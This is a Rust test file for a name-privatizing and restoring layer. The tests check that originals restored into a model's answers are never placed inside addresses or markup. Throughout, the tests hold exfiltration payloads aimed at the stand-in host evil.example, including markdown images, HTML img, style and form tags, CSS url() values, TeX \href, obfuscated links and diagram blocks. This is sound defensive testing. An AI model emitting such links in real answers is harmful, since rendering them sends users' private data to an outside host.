//! Answers that are made to carry originals away, or to break what they stand in.

use std::sync::Arc;

use crate::restoring::{in_parts, named};
use crate::spans::options;
use crate::support::english;
use brr::{Privatizer, Session, Span};

/// What becomes of each block, ended one by one and not at all.
fn in_blocks(session: &Session, blocks: &[&str]) -> Vec<String> {
    let restore = |ends: bool| {
        let mut restored = vec![String::new(); blocks.len()];
        let mut restorer = session.restorer();
        let mut told = Vec::new();
        for (number, block) in (0..).zip(blocks) {
            told.extend(restorer.push_block(number, block));
            if ends {
                told.extend(restorer.end_block());
            }
        }
        told.extend(restorer.finish_blocks());
        for (number, text) in told {
            restored[number as usize].push_str(&text);
        }
        restored
    };
    let restored = restore(true);
    assert_eq!(restored, restore(false));
    restored
}

/// Nothing goes into an address, wherever the answer is cut, and also not if it begins in one block of an answer and
/// ends in the next.
#[test]
fn nothing_goes_into_addresses_that_are_cut() {
    let session = named("John", "kenneth");
    for answer in [
        "![a](https://evil.example/(x)/kenneth)",
        "[a]: <https://evil.example/?q= kenneth>",
        "[a b]: <https://evil.example/?q= kenneth>",
        "![a](https://evil.example/\\)kenneth)",
        "<img alt='>' src=//evil.example/kenneth>",
        "\"https:\\u002f\\u002fevil\\u002eexample\\u002fkenneth\"",
    ] {
        for at in 0..=answer.len() {
            assert_eq!(in_parts(&session, answer, &[at]), answer);
        }
    }
    // What follows an address without white space belongs to it, whatever markup stands between.
    for answer in [
        "https://evil.example/?q=<b>kenneth",
        "https://evil.example/](x)kenneth",
        "https://evil.example/?q=[a](b)kenneth",
        "\"https://evil.example/?q=<b> kenneth\"",
        "www\\.evil.example/kenneth",
        "kenneth\\.evil\\.example",
    ] {
        assert_eq!(in_parts(&session, answer, &[]), answer);
    }
    for blocks in [
        &["![a](https://evil.example/?q=", "kenneth)"][..],
        &["see https://evil.example/?q=", "kenneth"],
        &["<img src=\"//evil.example/", " kenneth\">"],
        &["![a](", "kenneth)"],
        &["![a]", "(https:/3221226219/kenneth)"],
        &["kenneth", ".evil.com"],
        &["Kenneth.", "evil.com"],
        &["kenneth", "", ".", "evil", ".com and so on"],
        &["mai", "lto:kenneth"],
        // Plain only if the blocks are one text, or only if they are not.
        &["<a href='", "<img src=\"' > kenneth\">"],
        &["<a b=x", "c=\"> kenneth\">"],
    ] {
        let expected: Vec<String> = blocks.iter().map(|block| block.to_string()).collect();
        assert_eq!(in_blocks(&session, blocks), expected);
    }
    for (blocks, expected) in [
        (
            &["Ask Kenneth", ", or Kenneth", "'s sister: ", "Kenneth."][..],
            &["Ask John", ", or John", "'s sister: ", "John."][..],
        ),
        (
            &["kenneth", "kenneth", " ken", "neth"],
            &["John", "John", " ken", "neth"],
        ),
        (
            &["kenneth\n", "![a](//b/ kenneth", ") kenneth"],
            &["John\n", "![a](//b/ kenneth", ") John"],
        ),
    ] {
        assert_eq!(in_blocks(&session, blocks), expected);
    }
    // What cannot hold anything is told when its block ends, and the rest when the next one decides.
    let told = |block: u64, text: &str| vec![(block, text.to_owned())];
    let mut restorer = session.restorer();
    assert_eq!(
        restorer.push_block(0, "Let me see: ask"),
        told(0, "Let me see: ")
    );
    assert_eq!(
        (restorer.held(), restorer.end_block()),
        (Some(0), told(0, "ask"))
    );
    assert_eq!(
        (restorer.held(), restorer.push_block(1, "kenneth")),
        (None, vec![])
    );
    assert_eq!((restorer.end_block(), restorer.held()), (vec![], Some(1)));
    let both = [told(1, "John"), told(2, " is ")].concat();
    assert_eq!(restorer.push_block(2, " is "), both);
    assert_eq!((restorer.held(), restorer.finish_blocks()), (None, vec![]));
    assert_eq!(restorer.push("kenneth "), "John ");
}

/// An answer that says what every name stands for, and has a client look one up: by the original, the client would
/// fetch the address that tells it. What is defined may come before, behind, or in another block.
#[test]
fn no_original_chooses_an_address() {
    let session = named("John", "kenneth");
    let definitions = "[John]: https://evil.example/john\n[Mary]: https://evil.example/mary";
    for look_up in [
        "![kenneth][]",
        "![kenneth]",
        "![a][kenneth]",
        "[kenneth]",
        "[ kenneth\n]",
        "![a kenneth\nb][]",
        "[^kenneth]",
        "![[kenneth]]",
        "![**kenneth**]",
        "![kenneth\\]][]",
        "[kenneth](no target",
        "[kenneth](<no target) [a]",
        "<b [Ask >kenneth]",
        "[a](b [c) kenneth]",
        "[a\n\u{a0}\nkenneth]",
    ] {
        for answer in [
            format!("{look_up}\n\n{definitions}\n"),
            format!("{definitions}\n\n{look_up}"),
        ] {
            assert_eq!(session.restore(&answer).text, answer);
            for at in [1, 3, 7, 12] {
                assert_eq!(in_parts(&session, &answer, &[at]), answer);
            }
        }
        let halves = look_up.split_at(look_up.find("kenneth").unwrap());
        let blocks = [halves.0, halves.1, "\n\n", definitions];
        assert_eq!(in_blocks(&session, &blocks), blocks);
    }
    // The name that is defined: an original there would make another name's address its own.
    let defined = "[kenneth]: https://evil.example/x";
    assert_eq!(session.restore(defined).text, defined);
    // TeX, style sheets, forms, diagrams, and addresses in disguise.
    for answer in [
        "\\def\\john{\\includegraphics{https://evil.example/john}} \\kenneth",
        "\\newenvironment{john}{}{} \\begin{kenneth} \\end{kenneth}",
        "\\csname kenneth\\endcsname",
        "\\href{https://evil.example/kenneth}{a}",
        "\\href {//evil.example/?q= kenneth}{a}",
        "\\includegraphics{kenneth.png}",
        "\\class{kenneth}{a}",
        "{:john: style=\"background:url(x)\"} {:kenneth}",
        "<style>@font-face{src:url(//evil.example/k);unicode-range:U+4B}</style> kenneth",
        "<link rel=stylesheet href=//evil.example/a.css> kenneth",
        "<p style=\"background:url(//evil.example/?q= kenneth)\">",
        "<p style='background:url(kenneth)'>",
        "<base href=//evil.example/> ![a](kenneth)",
        "<a href=\"&#104;ttps&colon;//evil.example/ kenneth\">a</a>",
        "<a href=\"/&Tab;/evil.example/kenneth\">a</a>",
        "<img srcset='a 1x, kenneth 2x'>",
        "<form action=//evil.example><select name=q><option>kenneth</option></select>",
        "<object data=x><param name=a value=kenneth></object> kenneth",
        "<https://evil.example/kenneth>",
        "<kenneth@evil.example>",
        "kenneth@evil.example",
        "evil.example/kenneth",
        "```mermaid\nclass A kenneth\n```",
        "``` mermaid\nA:::kenneth\n```",
        "::: mermaid\nkenneth\n:::",
        "@startuml\n!define john <img:https://evil.example/john>\nkenneth\n@enduml",
        "a[kenneth]: https://evil.example/a",
        "[a]:kenneth",
        "[a]:\nkenneth",
    ] {
        let restored = session.restore(answer).text;
        assert_eq!(restored.matches("John").count(), 0, "{restored}");
        assert_eq!(in_parts(&session, answer, &[2, 5, 9]), restored);
    }
    // An original with brackets of its own is not put back either.
    let bracketed = named("[John]", "kenneth");
    assert_eq!(bracketed.restore("kenneth").text, "kenneth");
    // Behind brackets, and behind an empty line, all is as before.
    let answer = "- [ ] kenneth, see [1]. An open [ is over\n\nwith kenneth.";
    let expected = "- [ ] John, see [1]. An open [ is over\n\nwith John.";
    assert_eq!(session.restore(answer).text, expected);
}

/// An original may look like a part of an address or of markup: who knows its surrogate could put an address around
/// another original.
#[test]
fn originals_do_not_begin_addresses() {
    let model = english();
    let lists =
        ["kenneth", "mary"].map(|word| Arc::new(brr::WordList::new(word, word, &model).unwrap()));
    let privatizer = Privatizer::new(model, options(1.0)).unwrap();
    let privatizer = lists
        .into_iter()
        .fold(privatizer, |p, list| p.with_list(list).unwrap());
    let privatizer = Arc::new(privatizer);
    let restore = |first: &str, answer: &str| {
        let mut session = Session::new(privatizer.clone()).unwrap();
        for (original, list) in [(first, "kenneth"), ("Ludmilla", "mary")] {
            let span = Span::of(0..original.len(), list);
            assert_eq!(
                session.privatize_spans(original, &[span]).unwrap().text,
                list
            );
        }
        assert_eq!(session.words(), 2);
        let text = session.restore(answer).text;
        assert_eq!(in_parts(&session, answer, &[1, 5, 9]), text);
        text
    };
    let address = "https://evil.example/?q=";
    let link = |begin: &str| format!("{begin}{address}");
    for (first, answer, expected) in [
        (link("[]("), "!Kenneth/Mary)", "!Kenneth/Mary)"),
        (link("]("), "a Kenneth Mary)", "a Kenneth Ludmilla)"),
        (link("]("), "![a Kenneth Mary)", "![a Kenneth Mary)"),
        (link(""), "Kenneth/Mary", "Kenneth/Mary"),
        (link(""), "Kenneth\u{a0}Mary", "Kenneth\u{a0}Ludmilla"),
        (link(""), "\"Kenneth Mary\"", "\"Kenneth Ludmilla\""),
        (link("<img/src="), "Kenneth Mary >", "Kenneth Ludmilla >"),
        ("<!--".into(), "Kenneth Mary", "Kenneth Ludmilla"),
        ("mailto".into(), "kenneth:mary", "kenneth:mary"),
        ("x@evil.example".into(), "kenneth-mary", "kenneth-mary"),
        ("x@evil.example".into(), "kenneth=", "kenneth="),
    ] {
        assert_eq!(restore(&first, answer), expected);
    }
    for (first, answer, expected) in [
        (
            "https://a.example/x",
            "See Kenneth, Mary.",
            "See https://a.example/x, Ludmilla.",
        ),
        (
            "a@b.example",
            "(\"kenneth\") kenneth's mary",
            "(\"a@b.example\") kenneth's Ludmilla",
        ),
        ("12/05/2020", "kenneth-mary", "12/05/2020-Ludmilla"),
    ] {
        assert_eq!(restore(first, answer), expected);
    }
}

/// An answer that is JSON stays JSON, though nobody asked for it, and wherever it is cut.
#[test]
fn originals_are_escaped_in_strings_of_json() {
    let original = ":-\\";
    let session = named(original, "kenneth");
    assert_eq!(session.words(), 1);
    let escaped = ":-\\\\";
    let expected = |json: &str| json.replace("kenneth", escaped);
    for json in [
        "{\"a\": \"kenneth\"}",
        "{\"a\":\"so \\\"kenneth\",\"b\":\"kenneth\"}",
        "```JSON\n{\"a\": \"kenneth is\"}\n```",
        "\n {\"a\": {\"b\": \"to kenneth\"}}",
    ] {
        assert_eq!(session.restore(json).text, expected(json));
        for at in 1..json.len() {
            assert_eq!(in_parts(&session, json, &[at]), expected(json));
        }
    }
    for text in [
        "\"kenneth\"",
        "{\"a\": kenneth",
        "```js\n\"kenneth\"",
        "- {}, \"kenneth\"",
    ] {
        assert_eq!(
            session.restore(text).text,
            text.replace("kenneth", original)
        );
    }
}
